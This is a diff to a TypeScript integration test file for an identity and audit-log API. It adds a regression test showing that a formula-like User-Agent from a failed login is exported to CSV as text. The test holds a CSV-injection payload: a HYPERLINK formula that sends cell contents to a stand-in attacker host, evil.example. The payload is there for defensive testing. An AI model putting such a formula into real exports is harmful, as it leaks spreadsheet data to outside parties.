@@ -1,3 +1,4 @@
+import { parse } from "csv-parse/sync";
 import { createClient } from "graphql-ws";
 import { decodeJwt, type JWK, SignJWT, UnsecuredJWT } from "jose";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
@@ -181,14 +182,17 @@ describe("human identity through the edge", () => {
     },
   );
 
-  it("answers who created, locked and unlocked a user, to its managers and not to staff", async () => {
-    const password = "a long enough password";
-    const created = await postJson(
+  /** A store manager of the demo store, created by its merchant admin. */
+  const newStoreManager = () =>
+    postJson(
       platform.baseUrl,
       "/api/v1/users",
-      { role: "STORE_MANAGER", store_id: demo.store.id, password },
+      { role: "STORE_MANAGER", store_id: demo.store.id, password: "a long enough password" },
       tokens.MERCHANT_ADMIN,
     );
+
+  it("answers who created, locked and unlocked a user, to its managers and not to staff", async () => {
+    const created = await newStoreManager();
     expect(created.status).toBe(201);
     for (let attempt = 0; attempt < 5; attempt++) {
       const failed = await postJson(platform.baseUrl, "/api/v1/auth/user/login", {
@@ -221,6 +225,31 @@ describe("human identity through the edge", () => {
     });
     expect((await trail(tokens.STORE_MANAGER!)).body).toHaveLength(8);
     expect((await trail(tokens.STAFF!)).status).toBe(403);
+  });
+
+  // The probe's CSV injection: a failed login stored the caller's User-Agent as sent, and the export wrote it as a
+  // formula a spreadsheet runs. The record keeps what was sent; the CSV cell is made text (each character: csv.test.ts).
+  it("exports a failed login's formula-like User-Agent as text, not as a formula, and its time in ISO 8601", async () => {
+    const created = await newStoreManager();
+    const userAgent = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")';
+    const failed = await fetch(`${platform.baseUrl}/api/v1/auth/user/login`, {
+      method: "POST",
+      headers: { "content-type": "application/json", "user-agent": userAgent },
+      body: JSON.stringify({ login_id: created.body.login_id, password: "not the password" }),
+    });
+    expect(failed.status).toBe(401);
+    const exported = await fetch(
+      `${platform.baseUrl}/api/v1/audit-logs/export?format=csv&event=user.login_failed&target=${created.body.id}`,
+      { headers: { authorization: `Bearer ${tokens.MERCHANT_ADMIN}` } },
+    );
+    const [header, row] = parse(await exported.text()) as string[][];
+    expect(row![header!.indexOf("user_agent")]).toBe(`'${userAgent}`);
+    expect(row![header!.indexOf("timestamp")]).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/);
+    const ndjson = await fetch(
+      `${platform.baseUrl}/api/v1/audit-logs/export?format=ndjson&event=user.login_failed&target=${created.body.id}`,
+      { headers: { authorization: `Bearer ${tokens.MERCHANT_ADMIN}` } },
+    );
+    expect(JSON.parse(await ndjson.text())).toMatchObject({ user_agent: userAgent });
   });
 
   it("pages GET /api/v1/users with limit and offset, as the other portal lists, with paging headers", async () => {
